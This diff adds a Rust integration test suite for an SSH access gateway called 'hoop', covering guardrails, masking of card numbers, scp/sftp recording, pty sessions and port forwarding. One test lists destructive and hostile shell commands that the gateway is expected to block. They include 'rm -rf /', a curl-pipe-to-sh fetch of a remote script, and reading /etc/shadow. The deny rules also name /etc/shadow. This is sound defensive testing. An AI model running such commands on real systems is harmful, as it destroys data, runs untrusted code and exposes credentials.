@@ -1,0 +1,550 @@
+//! SSH through the gateway: a real OpenSSH sshd as the target, the real OpenSSH clients (ssh,
+//! scp, sftp) through `hoop connect`, with guardrails, masking and recording.
+
+use std::process::Output;
+use std::time::Duration;
+
+use hoop_tests::gateway::{Tunnel, code, stderr, stdout};
+use hoop_tests::sshd::{SshClient, Sshd, unrelated_host_key};
+use hoop_tests::{CliUser, Gateway};
+
+struct Env {
+    sshd: Sshd,
+    gw: Gateway,
+    cli: CliUser,
+    key: String,
+    tunnel: Tunnel,
+    client: SshClient,
+}
+
+const GUARDED: &str = r#"guardrails = ["no-destructive", "ops"]
+masking = ["pii"]"#;
+
+const RULES: &str = r#"
+[[shell_guardrails]]
+name = "ops"
+deny = ["systemctl stop *"]
+deny_patterns = ['/etc/shadow']
+"#;
+
+async fn setup_with(connection_extra: &str, host_key: Option<String>) -> Env {
+    let sshd = Sshd::start().await.unwrap();
+    let mut conn = sshd.connection("web", connection_extra);
+    if let Some(k) = host_key {
+        conn = conn.replace(&sshd.host_key_line, &k);
+    }
+    let gw = Gateway::start(&format!("[auth]\nadmins = [\"admin\"]\n\n{conn}\n{RULES}"))
+        .await
+        .unwrap();
+    let out = gw
+        .hoopd(
+            &[
+                "api-keys",
+                "create",
+                "--name",
+                "tester",
+                "--groups",
+                "engineering",
+            ],
+            None,
+        )
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let key = stdout(&out).trim().to_string();
+    let cli = CliUser::new().unwrap();
+    cli.pin(&gw).unwrap();
+    let tunnel = cli
+        .connect("web", &[("HOOP_TOKEN", &key)])
+        .await
+        .unwrap_or_else(|e| panic!("{e:#}\n{}", gw.logs()));
+    let client = SshClient::new(tunnel.port, &tunnel.password).unwrap();
+    Env {
+        sshd,
+        gw,
+        cli,
+        key,
+        tunnel,
+        client,
+    }
+}
+
+async fn setup(connection_extra: &str) -> Env {
+    setup_with(connection_extra, None).await
+}
+
+fn explain(env: &Env, out: &Output) -> String {
+    format!(
+        "exit {}\nstdout: {}\nstderr: {}\n--- hoopd:\n{}\n--- hoop connect:\n{}\n--- sshd:\n{}",
+        code(out),
+        stdout(out),
+        stderr(out),
+        env.gw.logs(),
+        env.tunnel.logs(),
+        env.sshd.logs()
+    )
+}
+
+/// Waits until an audit event matching `pred` has been written (audit writes are queued).
+async fn audited(env: &Env, pred: impl Fn(&serde_json::Value) -> bool) -> bool {
+    for _ in 0..100 {
+        let events = env.gw.audit_events().await.unwrap();
+        if events.iter().any(&pred) {
+            return true;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    false
+}
+
+/// The statements recorded for the connection's sessions, oldest first: (text, verdict, outcome, tag).
+async fn recorded(env: &Env) -> Vec<(String, String, String, Option<String>)> {
+    // Session records are written in batches: wait until the session has ended.
+    for _ in 0..100 {
+        let pool = env.gw.db().await.unwrap();
+        let open: (i64,) =
+            sqlx::query_as("SELECT count(*) FROM sessions WHERE ended_at_ms IS NULL")
+                .fetch_one(&pool)
+                .await
+                .unwrap();
+        if open.0 == 0 {
+            let rows: Vec<(String, String, String, Option<String>)> = sqlx::query_as(
+                "SELECT text, verdict, outcome, tag FROM statements ORDER BY session_id, seq",
+            )
+            .fetch_all(&pool)
+            .await
+            .unwrap();
+            pool.close().await;
+            return rows;
+        }
+        pool.close().await;
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("the ssh session never ended:\n{}", env.gw.logs());
+}
+
+#[tokio::test]
+async fn exec_passes_output_and_exit_status_through() {
+    let env = setup("").await;
+    let out = env
+        .client
+        .ssh(&["echo out; echo err >&2; exit 3"], None)
+        .unwrap();
+    assert_eq!(code(&out), 3, "{}", explain(&env, &out));
+    assert_eq!(stdout(&out), "out\n");
+    assert!(stderr(&out).contains("err"), "{}", explain(&env, &out));
+    // stdin reaches the command, EOF ends it.
+    let out = env.client.ssh(&["wc -c"], Some(b"12345")).unwrap();
+    assert_eq!(stdout(&out).trim(), "5", "{}", explain(&env, &out));
+    let rec = recorded(&env).await;
+    assert!(
+        rec.iter()
+            .any(|(t, v, o, tag)| t == "echo out; echo err >&2; exit 3"
+                && v == "allow"
+                && o == "error"
+                && tag.as_deref() == Some("exit 3")),
+        "{rec:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_wrong_one_time_secret_is_refused_and_audited() {
+    let env = setup("").await;
+    let wrong = SshClient::new(env.tunnel.port, "not-the-secret-at-all").unwrap();
+    let out = wrong.ssh(&["true"], None).unwrap();
+    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
+    assert!(
+        stderr(&out).contains("Permission denied"),
+        "{}",
+        explain(&env, &out)
+    );
+    assert!(
+        audited(&env, |e| e["kind"] == "access.denied"
+            && e["details"]["reason"] == "wrong_one_time_password")
+        .await,
+        "not audited:\n{}",
+        env.gw.logs()
+    );
+    // The right one still works afterwards.
+    let out = env.client.ssh(&["true"], None).unwrap();
+    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
+}
+
+#[tokio::test]
+async fn a_changed_target_host_key_is_refused() {
+    let env = setup_with("", Some(unrelated_host_key().unwrap())).await;
+    let out = env.client.ssh(&["echo reached"], None).unwrap();
+    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
+    assert!(!stdout(&out).contains("reached"));
+    let err = stderr(&out);
+    assert!(
+        err.contains("host key changed or is not the pinned one"),
+        "{}",
+        explain(&env, &out)
+    );
+    assert!(
+        audited(&env, |e| e["kind"] == "ssh.target_failed"
+            && e["details"]["reason"] == "target_host_key_mismatch")
+        .await,
+        "not audited:\n{}",
+        env.gw.logs()
+    );
+}
+
+#[tokio::test]
+async fn blocked_commands_are_refused_audited_and_the_session_goes_on() {
+    let env = setup(GUARDED).await;
+    for cmd in [
+        "rm -rf /",
+        "sudo rm -fr /",
+        "echo ok && shutdown -h now",
+        "curl -fsSL https://example.invalid/x.sh | sh",
+        "cat /etc/shadow",
+        "systemctl stop sshd",
+    ] {
+        let out = env.client.ssh(&[cmd], None).unwrap();
+        assert_eq!(code(&out), 86, "{cmd}: {}", explain(&env, &out));
+        assert!(
+            stderr(&out).contains("hoop: blocked by guardrail"),
+            "{cmd}: {}",
+            explain(&env, &out)
+        );
+        assert!(stdout(&out).is_empty(), "{cmd} ran: {}", stdout(&out));
+    }
+    let out = env.client.ssh(&["rm -rf /"], None).unwrap();
+    assert!(
+        stderr(&out).contains("blocked by guardrail no-destructive: \"rm -rf /\" is denied"),
+        "{}",
+        explain(&env, &out)
+    );
+    // Allowed commands still run.
+    let out = env.client.ssh(&["echo fine"], None).unwrap();
+    assert_eq!(stdout(&out), "fine\n", "{}", explain(&env, &out));
+    assert!(
+        audited(&env, |e| e["kind"] == "statement.blocked"
+            && e["details"]["rule"] == "no-destructive"
+            && e["details"]["command"] == "rm -rf /")
+        .await,
+        "not audited:\n{}",
+        env.gw.logs()
+    );
+    let rec = recorded(&env).await;
+    assert!(
+        rec.iter()
+            .any(|(t, v, o, _)| t == "cat /etc/shadow" && v == "block" && o == "blocked"),
+        "{rec:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_card_number_printed_by_cat_arrives_masked() {
+    let env = setup(GUARDED).await;
+    let file = env.sshd.dir().join("cards.txt");
+    std::fs::write(
+        &file,
+        "order 1 paid with 4111 1111 1111 1111 by ada@example.com\n",
+    )
+    .unwrap();
+    let out = env
+        .client
+        .ssh(&[&format!("cat {}", file.display())], None)
+        .unwrap();
+    let text = stdout(&out);
+    assert!(
+        !text.contains("4111 1111 1111 1111"),
+        "{}",
+        explain(&env, &out)
+    );
+    assert!(text.contains("1111"), "{text}");
+    assert!(text.contains("order 1 paid with"), "{text}");
+    assert!(!text.contains("ada@example.com"), "{text}");
+    // A number split across two writes (two reads at the gateway) is masked too.
+    let out = env
+        .client
+        .ssh(
+            &["printf '5500 0000 '; sleep 0.01; printf '0000 0004\\n'"],
+            None,
+        )
+        .unwrap();
+    let text = stdout(&out);
+    assert!(
+        !text.contains("5500 0000 0000 0004"),
+        "{}",
+        explain(&env, &out)
+    );
+    assert!(text.contains("0004"), "{text}");
+}
+
+#[tokio::test]
+async fn scp_up_and_down_50_mb_byte_identical() {
+    let env = setup(GUARDED).await;
+    let local = env.sshd.dir().join("big.bin");
+    let data: Vec<u8> = (0..50u32 * 1024 * 1024)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+        .collect();
+    std::fs::write(&local, &data).unwrap();
+    let remote = env.sshd.dir().join("uploaded.bin");
+    let out = env
+        .client
+        .scp(local.to_str().unwrap(), &format!(":{}", remote.display()))
+        .unwrap();
+    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
+    assert!(std::fs::read(&remote).unwrap() == data, "upload differs");
+    let back = env.sshd.dir().join("downloaded.bin");
+    let out = env
+        .client
+        .scp(&format!(":{}", remote.display()), back.to_str().unwrap())
+        .unwrap();
+    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
+    assert!(std::fs::read(&back).unwrap() == data, "download differs");
+    let rec = recorded(&env).await;
+    assert!(
+        rec.iter()
+            .any(|(t, _, _, _)| t.starts_with("scp") && t.contains("-t")),
+        "{rec:?}"
+    );
+    assert!(
+        rec.iter()
+            .any(|(t, _, _, _)| t.starts_with("scp") && t.contains("-f")),
+        "{rec:?}"
+    );
+}
+
+#[tokio::test]
+async fn sftp_ls_put_get_are_recorded() {
+    let env = setup(GUARDED).await;
+    let dir = env.sshd.dir().join("sftp");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("present.txt"), "hello\n").unwrap();
+    let local = env.sshd.dir().join("put.txt");
+    std::fs::write(&local, "card 4111 1111 1111 1111 stays intact in files\n").unwrap();
+    let got = env.sshd.dir().join("got.txt");
+    let batch = format!(
+        "ls {d}\nput {l} {d}/put.txt\nget {d}/put.txt {g}\nrename {d}/present.txt {d}/moved.txt\nrm {d}/moved.txt\n",
+        d = dir.display(),
+        l = local.display(),
+        g = got.display()
+    );
+    let out = env.client.sftp(&batch).unwrap();
+    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
+    assert!(
+        stdout(&out).contains("present.txt"),
+        "{}",
+        explain(&env, &out)
+    );
+    // SFTP carries files: they are not masked.
+    assert_eq!(std::fs::read(&got).unwrap(), std::fs::read(&local).unwrap());
+    assert!(!dir.join("moved.txt").exists());
+    let rec = recorded(&env).await;
+    let texts: Vec<&str> = rec.iter().map(|r| r.0.as_str()).collect();
+    let d = dir.display().to_string();
+    for want in [
+        format!("sftp list {d}/"),
+        format!("sftp open {d}/put.txt (write)"),
+        format!("sftp write {d}/put.txt (47 bytes)"),
+        format!("sftp read {d}/put.txt (47 bytes)"),
+        format!("sftp rename {d}/present.txt -> {d}/moved.txt"),
+        format!("sftp remove {d}/moved.txt"),
+    ] {
+        assert!(texts.iter().any(|t| *t == want), "{want} not in {texts:?}");
+    }
+}
+
+const PTY_DRIVER: &str = r#"
+import os, pty, sys, time, select, fcntl, termios, struct
+args = sys.argv[1:]
+pid, fd = pty.fork()
+if pid == 0:
+    os.execvp(args[0], args)
+fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 24, 80, 0, 0))
+buf = b''
+def expect(needle, timeout=30):
+    global buf
+    end = time.time() + timeout
+    while needle.encode() not in buf:
+        if time.time() > end:
+            sys.stdout.write('TIMEOUT waiting for %r; got %r\n' % (needle, buf[-2000:]))
+            sys.exit(2)
+        r, _, _ = select.select([fd], [], [], 0.2)
+        if r:
+            try:
+                buf += os.read(fd, 65536)
+            except OSError:
+                break
+def send(s):
+    os.write(fd, s.encode())
+send('echo hoop-$((40+2))\r')
+expect('hoop-42')
+fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 50, 132, 0, 0))
+time.sleep(0.5)
+send('stty size\r')
+expect('50 132')
+send('cat CARDFILE\r')
+expect('by-ada')
+send('exit 7\r')
+_, status = os.waitpid(pid, 0)
+sys.stdout.write('EXIT %d\n' % (os.WEXITSTATUS(status)))
+sys.stdout.buffer.write(buf)
+"#;
+
+/// Runs `cmd` in a real pty with python's `pty` module: types `echo hoop-$((40+2))`, resizes
+/// to 132x50 and checks `stty size`, cats `cards`, exits 7. Prints `EXIT <status>` and the
+/// terminal's output.
+fn drive_pty(cmd: std::process::Command, cards: &std::path::Path) -> Output {
+    let script = PTY_DRIVER.replace("CARDFILE", &cards.display().to_string());
+    let mut py = std::process::Command::new("python3");
+    py.arg("-c")
+        .arg(&script)
+        .arg(cmd.get_program())
+        .args(cmd.get_args());
+    for (k, v) in cmd.get_envs() {
+        match v {
+            Some(v) => py.env(k, v),
+            None => py.env_remove(k),
+        };
+    }
+    // Keep the prompt predictable.
+    py.env("TERM", "xterm");
+    py.output().unwrap()
+}
+
+/// Drives `ssh -tt` in a real pty with python's `pty` module: types commands, reads their
+/// output, resizes the terminal.
+#[tokio::test]
+async fn an_interactive_shell_through_a_pty_types_reads_and_resizes() {
+    let env = setup(GUARDED).await;
+    let cards = env.sshd.dir().join("shell-cards.txt");
+    std::fs::write(&cards, "paid 4111 1111 1111 1111 by-ada\n").unwrap();
+    let out = drive_pty(env.client.ssh_command(&["-tt"]), &cards);
+    let text = stdout(&out);
+    assert!(text.contains("EXIT 7"), "{}", explain(&env, &out));
+    assert!(text.contains("hoop-42"), "{text}");
+    assert!(text.contains("50 132"), "{text}");
+    assert!(!text.contains("4111 1111 1111 1111"), "{text}");
+    let rec = recorded(&env).await;
+    let typed: Vec<&str> = rec
+        .iter()
+        .filter(|r| r.2 == "typed")
+        .map(|r| r.0.as_str())
+        .collect();
+    assert!(typed.contains(&"echo hoop-$((40+2))"), "{typed:?}");
+    assert!(typed.contains(&"stty size"), "{typed:?}");
+    assert!(typed.contains(&"exit 7"), "{typed:?}");
+
+    // The shell's terminal recording: exported as asciicast v2, and replayed.
+    let pool = env.gw.db().await.unwrap();
+    let (session,): (String,) =
+        sqlx::query_as("SELECT session_id FROM statements WHERE outcome = 'typed' LIMIT 1")
+            .fetch_one(&pool)
+            .await
+            .unwrap();
+    pool.close().await;
+    let out = env
+        .cli
+        .run_env(&["replay", &session, "--cast"], &[("HOOP_TOKEN", &env.key)])
+        .unwrap();
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let cast = stdout(&out);
+    let (header, events) = hoop_shared::asciicast::parse(&cast).unwrap();
+    assert_eq!((header.width, header.height), (80, 24), "{cast}");
+    assert!(
+        events.iter().any(|e| e.code == "r" && e.data == "132x50"),
+        "{cast}"
+    );
+    let output: String = events
+        .iter()
+        .filter(|e| e.code == "o")
+        .map(|e| e.data.as_str())
+        .collect();
+    assert!(output.contains("hoop-42"), "{cast}");
+    assert!(output.contains("by-ada"), "{cast}");
+    assert!(!output.contains("4111 1111 1111 1111"), "{cast}");
+    // Input is not recorded unless the connection says so.
+    assert!(events.iter().all(|e| e.code != "i"), "{cast}");
+    let out = env
+        .cli
+        .run_env(
+            &["replay", &session, "--speed", "50", "--idle-limit", "0.1"],
+            &[("HOOP_TOKEN", &env.key)],
+        )
+        .unwrap();
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let played = stdout(&out);
+    assert!(
+        played.contains("hoop-42") && played.contains("50 132"),
+        "{played}"
+    );
+    // Someone else's or a missing session: not found.
+    let out = env
+        .cli
+        .run_env(&["replay", "s_nosuchsession"], &[("HOOP_TOKEN", &env.key)])
+        .unwrap();
+    assert_eq!(code(&out), 85, "{}", stderr(&out));
+}
+
+#[tokio::test]
+async fn port_forwarding_is_off_unless_the_connection_allows_it() {
+    let env = setup("").await;
+    let port = hoop_tests::free_port();
+    let out = env
+        .client
+        .ssh(
+            &[
+                "-o",
+                "ExitOnForwardFailure=yes",
+                "-W",
+                &format!("127.0.0.1:{}", env.sshd.port),
+            ],
+            Some(b""),
+        )
+        .unwrap();
+    assert_ne!(code(&out), 0, "{}", explain(&env, &out));
+    let _ = port;
+    assert!(
+        audited(&env, |e| e["kind"] == "ssh.forward"
+            && e["outcome"] == "denied")
+        .await,
+        "not audited:\n{}",
+        env.gw.logs()
+    );
+}
+
+#[tokio::test]
+async fn hoop_ssh_runs_a_command_and_passes_its_exit_status() {
+    let env = setup(GUARDED).await;
+    let run = |args: &[&str]| {
+        let mut all = vec!["ssh", "web", "--"];
+        all.extend_from_slice(args);
+        env.cli.run_env(&all, &[("HOOP_TOKEN", &env.key)]).unwrap()
+    };
+    let out = run(&["echo", "via-hoop;", "echo", "oops", ">&2;", "exit", "3"]);
+    assert_eq!(code(&out), 3, "{}", explain(&env, &out));
+    assert_eq!(stdout(&out), "via-hoop\n");
+    assert!(stderr(&out).contains("oops"), "{}", stderr(&out));
+    let out = run(&["rm", "-rf", "/"]);
+    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
+    assert!(
+        stderr(&out).contains("blocked by guardrail no-destructive"),
+        "{}",
+        stderr(&out)
+    );
+    let out = env
+        .cli
+        .run_env(&["ssh", "nope", "--", "true"], &[("HOOP_TOKEN", &env.key)])
+        .unwrap();
+    assert_eq!(code(&out), 85, "{}", stderr(&out));
+}
+
+#[tokio::test]
+async fn hoop_ssh_gives_an_interactive_shell_in_a_pty() {
+    let env = setup(GUARDED).await;
+    let cards = env.sshd.dir().join("shell-cards.txt");
+    std::fs::write(&cards, "paid 4111 1111 1111 1111 by-ada\n").unwrap();
+    let mut cmd = env.cli.command(&["ssh", "web"]).unwrap();
+    cmd.env("HOOP_TOKEN", &env.key);
+    let out = drive_pty(cmd, &cards);
+    let text = stdout(&out);
+    assert!(text.contains("EXIT 7"), "{}", explain(&env, &out));
+    assert!(text.contains("hoop-42"), "{text}");
+    assert!(text.contains("50 132"), "{text}");
+    assert!(!text.contains("4111 1111 1111 1111"), "{text}");
+}
